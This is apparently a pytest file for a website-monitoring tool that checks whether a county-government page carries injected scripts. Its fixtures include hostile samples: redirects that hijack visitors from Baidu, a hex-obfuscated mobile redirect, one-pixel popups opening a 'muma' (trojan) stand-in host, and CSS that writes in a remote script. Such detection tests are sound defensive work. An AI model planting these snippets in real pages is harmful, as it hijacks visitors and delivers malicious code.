"""Scripts of intruders as the nineteenth blind set showed them, by cause."""

from __future__ import annotations

from datetime import date

import pytest
from read_tools import read
from site_facts import WINDOWS, facts

from xuncha.checks.injection.check import observe as observe_injection
from xuncha.facts import Site
from xuncha.read.intruders.signs import telling_signs

HOME = "http://www.shili.gov.cn/"
SITE = Site(HOME, "示例县人民政府", "4101000001")
WORDS = "<p>" + "今天上午，县水利局召开防汛工作会议，部署水库安全度汛工作。" * 6 + "</p>"


def injected(body: str, head: str = "") -> set[str]:
    html = (
        f"<html><head><title>示例县人民政府</title>{head}</head><body>{WORDS}{body}</body></html>"
    )
    signs = telling_signs([read(HOME, html, date(2026, 6, 1))])
    seen = observe_injection(facts(site=SITE, signs=signs), WINDOWS)
    return {one.name for one in seen} - {"leaving_notice_unknown"}


def script(code: str) -> str:
    return f"<script>{code}</script>"


def hexes(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


CLICKS = 'if(document.referrer.indexOf("baidu.com")!=-1){{a=document.createElement("a");a.href="{}";a.click();}}'


@pytest.mark.parametrize(
    ("to", "is_trick"),
    [("https://bc.example/", True), ("/zt/ycj.html", False), (HOME, False)],
)
def test_who_searched_is_led_away_by_a_link_that_clicks_itself(to: str, is_trick: bool) -> None:
    assert ("script_trick" in injected(script(CLICKS.format(to)))) is is_trick


def test_who_searched_and_a_link_that_waits() -> None:
    code = 'if(document.referrer.indexOf("baidu.com")!=-1){document.getElementById("m").href="http://weixin.example/";}'
    assert injected(script(code)) == set()


@pytest.mark.parametrize(("to", "is_trick"), [("https://bc.example/", True), ("/m/", False)])
def test_telephones_in_hexadecimal(to: str, is_trick: bool) -> None:
    code = f"!(function(){{function m(){{return/Android|iPhone/i['{hexes('test')}'](navigator['{hexes('userAgent')}'])}}if(m()&&document.cookie.indexOf('v')<0){{document['{hexes('cookie')}']='v=1';window['{hexes('location')}']['{hexes('href')}']='{hexes(to)}'}}}})();"
    assert ("script_trick" in injected(script(code))) is is_trick


@pytest.mark.parametrize(
    ("code", "is_trick"),
    [
        ('window.open("http://muma.example/","","width=1,height=1")', True),
        ('open("http://muma.example/","n","toolbar=no,width=1,height=1,left=10")', True),
        ('window.open("http://diaocha.example/","","width=600,height=400")', False),
        ('window.open("/tc/tongzhi.html","","width=1,height=1")', False),
        ('function k(){window.open("http://muma.example/","","width=1,height=1")}', False),
    ],
)
def test_a_window_of_one_dot(code: str, is_trick: bool) -> None:
    assert ("script_trick" in injected(script(code))) is is_trick


@pytest.mark.parametrize(
    ("rule", "is_seen"),
    [
        (
            "body{background-image:url('javascript:document.write(\"<script src=http://m.example/a.js></script>\")')}",
            True,
        ),
        ("body{background-image:url('/img/javascript.png')}", False),
        ("a{background:url(javascript:void(0))}", False),
    ],
)
def test_a_background_that_is_a_script(rule: str, is_seen: bool) -> None:
    found = injected("", f"<style>{rule}</style>")
    assert bool(found & {"foreign_script", "script_trick"}) is is_seen
